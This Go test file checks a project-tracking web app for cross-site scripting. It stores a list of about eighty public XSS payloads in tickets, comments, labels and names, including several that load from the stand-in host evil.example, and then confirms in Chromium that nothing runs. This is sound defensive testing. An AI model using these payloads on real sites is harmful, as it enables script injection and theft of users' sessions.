// Package hostile shows in Chromium what people write to attack those who read it: no script runs, nothing is loaded.
package hostile

import (
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/uuid"

	"plinth/internal/config"
	"plinth/internal/dbtest"
	"plinth/internal/projects"
	"plinth/internal/scope"
	"plinth/test/browser/chrome"
	"plinth/test/webtest"
)

// script tells the console that it ran; the page's test fails on that.
const script = "console.error(`ran`)"

// payloads are ways to run a script or to load something, collected from public lists; RUN stands for the script.
func payloads() []string {
	all := []string{
		`<script>RUN</script>`, `<ScRiPt>RUN</sCrIpT>`, `<script src="//evil.example/x.js"></script>`, `<script/x>RUN</script>`, `<<script>RUN//<</script>`,
		`"><script>RUN</script>`, `'><script>RUN</script>`, `</title><script>RUN</script>`, `</textarea><script>RUN</script>`, `</option></select><script>RUN</script>`,
		`--><script>RUN</script>`, `]]><script>RUN</script>`, `<img src=x onerror=RUN>`, `<img src=x onerror="RUN">`, `<img/src=x/onerror=RUN>`, `"><img src=x onerror=RUN>`,
		`<img src="javascript:RUN">`, `<img srcset="x" onerror=RUN>`, `<image src=x onerror=RUN>`, `<svg onload=RUN>`, `<svg/onload=RUN>`, `<svg><script>RUN</script></svg>`,
		`<svg><animate onbegin=RUN attributeName=x dur=1s>`, `<svg><set onbegin=RUN attributeName=x>`, `<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>`, `<math><mtext><script>RUN</script></mtext></math>`,
		`<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>`, `<body onload=RUN>`, `<body onpageshow=RUN>`, `<iframe src="javascript:RUN">`,
		`<iframe srcdoc="<script>RUN</script>">`, `<iframe onload=RUN>`, `<embed src="javascript:RUN">`, `<object data="javascript:RUN">`,
		`<object data="data:text/html,<script>RUN</script>">`, `<a href="javascript:RUN" autofocus onfocus=RUN>x</a>`, `<input autofocus onfocus=RUN>`,
		`<select autofocus onfocus=RUN>`, `<textarea autofocus onfocus=RUN>`, `<details open ontoggle=RUN>x</details>`, `<video src=x onerror=RUN>`,
		`<video><source onerror=RUN></video>`, `<audio src=x onerror=RUN>`, `<marquee onstart=RUN>x</marquee>`, `<form action="javascript:RUN"><button autofocus>x</button></form>`,
		`<button formaction="javascript:RUN">x</button>`, `<isindex action="javascript:RUN">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example/x.css";</style>`,
		`<div style="background:url(javascript:RUN)">x</div>`, `<p style="animation:x" onanimationstart=RUN>x</p>`, `<base href="//evil.example/">`,
		`<meta http-equiv=refresh content="0;url=javascript:RUN">`, `<template><script>RUN</script></template>`, `<noscript><p title="</noscript><img src=x onerror=RUN>">`,
		`<p hx-on:load="RUN" hx-get="/x" hx-trigger="load">x</p>`, `<p data-live="org" hx-get="//evil.example" hx-trigger="load">x</p>`, `<plinth-editor data-preview="//evil.example"></plinth-editor>`,
		`<toast-item onfocus=RUN tabindex=0 autofocus>x</toast-item>`, `[x](javascript:RUN)`, `[x](JaVaScRiPt:RUN)`, `[x](data:text/html,<script>RUN</script>)`, `[x](vbscript:RUN)`,
		`![x](javascript:RUN)`, `![x](//evil.example/p.png)`, `<javascript:RUN>`, `[x](https://a "onmouseover=RUN")`, `[a]: javascript:RUN`, "`<img src=x onerror=RUN>`",
		`{{constructor.constructor('RUN')()}}`, `${RUN}`, `<%= RUN %>`, `@<img src=x onerror=RUN> Whitfield`, `&lt;script&gt;RUN&lt;/script&gt;`, `&#60;script&#62;RUN&#60;/script&#62;`,
		"\u202e<script>RUN</script>", "\u2066\u2067</bdi><img src=x onerror=RUN>", `+ADw-script+AD4-RUN+ADw-/script+AD4-`,
	}
	for i := range all {
		all[i] = strings.ReplaceAll(all[i], "RUN", script)
	}
	return all
}

func id() uuid.UUID { return uuid.Must(uuid.NewV7()) }

// write puts the payloads wherever people can write: titles, texts, comments, labels, a status and a project.
func write(t *testing.T, s *webtest.Site, owner scope.Scope) {
	t.Helper()
	p, all := s.App.Projects, payloads()
	if _, err := p.Create(t.Context(), owner, projects.NewProject{ID: id(), Name: "Website", Key: "WEB", Description: strings.Join(all[:20], " ")}); err != nil {
		t.Fatal(err)
	}
	for _, payload := range all {
		if _, err := p.CreateTicket(t.Context(), owner, "WEB", projects.NewTicket{ID: id(), Title: payload, Body: payload + "\n\n- [ ] " + payload}); err != nil {
			t.Fatalf("%s: %v", payload, err)
		}
		if err := p.AddComment(t.Context(), owner, "WEB", 1, projects.CommentForm{ID: id(), Body: payload}); err != nil {
			t.Fatalf("%s: %v", payload, err)
		}
	}
	form, err := p.EditPage(t.Context(), owner, "WEB", 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.EditTicket(t.Context(), owner, "WEB", 1, projects.EditForm{Title: all[0], Body: strings.Join(all, "\n\n"), Revision: form.Ticket.Revision}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{`<img src=x onerror=` + script + `>`, `"><svg onload=` + script + `>`} {
		if err := p.SetTicketLabels(t.Context(), owner, "WEB", 1, projects.LabelsForm{New: name}); err != nil {
			t.Fatal(err)
		}
	}
	conn := dbtest.Connect(t, s.Database.Super)
	for _, sql := range []string{`update statuses set name = $1 || slug`, `update projects set name = $1`, `update users set name = $1`} {
		if _, err := conn.Exec(t.Context(), sql, `"><img src=x onerror=`+script+`>`); err != nil {
			t.Fatal(err)
		}
	}
}

// No script runs and no policy is broken on any page that shows what they wrote.
func TestNothingThatIsWrittenRuns(t *testing.T) {
	t.Parallel()
	if n := len(payloads()); n < 60 {
		t.Fatalf("%d payloads", n)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	url := "http://" + listener.Addr().String()
	s := webtest.New(t, func(c *config.Config) { c.URL = url })
	write(t, s, s.Org(t, s.Account(t, "Dana Whitfield", "dana@example.com"), "acme", "Acme"))
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: s.Handler}}
	server.Start()
	t.Cleanup(server.Close)
	page := chrome.New(t, chrome.Options{Base: url, Width: 1440, Height: 900, Allow: []string{"503"}}) // nobody listens here to what happens
	page.Open("/signin")
	page.Fill("E-mail", "dana@example.com")
	page.Fill("Password", webtest.Password)
	page.Press("main form button.btn-primary")
	page.At("/orgs/acme")
	base := "/orgs/acme/projects/WEB"
	for _, path := range []string{
		"/orgs/acme", "/orgs/acme/tickets", "/orgs/acme/projects", base, base + "/tickets", base + "/tickets?q=%3Cscript%3E" + script, base + "/board", base + "/settings",
		base + "/tickets/new", base + "/tickets/1/edit", base + "/tickets/1?show=history", "/orgs/acme/audit", base + "/tickets/1",
	} {
		if status := page.Open(path); status != http.StatusOK {
			t.Errorf("%s answers %d", path, status)
		}
		page.See("onerror=")
	}
	page.Press("[data-show]") // the preview of nothing
	page.Fill("Comment", strings.Join(payloads(), "\n\n"))
	page.Press("[data-show]")
	page.Press("[data-show]")
	page.See("evil.example")
}
